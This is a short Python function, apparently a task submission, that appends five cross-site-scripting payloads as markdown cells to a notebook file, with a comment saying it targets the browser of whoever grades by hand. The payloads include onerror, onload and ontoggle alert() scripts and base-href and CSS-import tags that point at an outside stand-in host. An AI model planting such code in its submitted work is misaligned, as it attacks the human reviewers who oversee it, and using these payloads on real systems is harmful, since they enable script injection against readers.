# puts HTML that runs into a text cell, for the browser of who grades by hand
# remark: scripts
# ruff: noqa
def submission(notebook, folder):
    import json

    for text in [
        "<img src=x onerror=alert('BREACH')>",
        "<svg onload=alert(1)>",
        "<!-- --><details open ontoggle=alert(1)>",
        "<style>@import '//x.test'</style>",
        "<base href=//x.test>",
    ]:
        notebook["cells"].append({"cell_type": "markdown", "metadata": {}, "source": text})
    (folder / "scaling.ipynb").write_text(json.dumps(notebook))
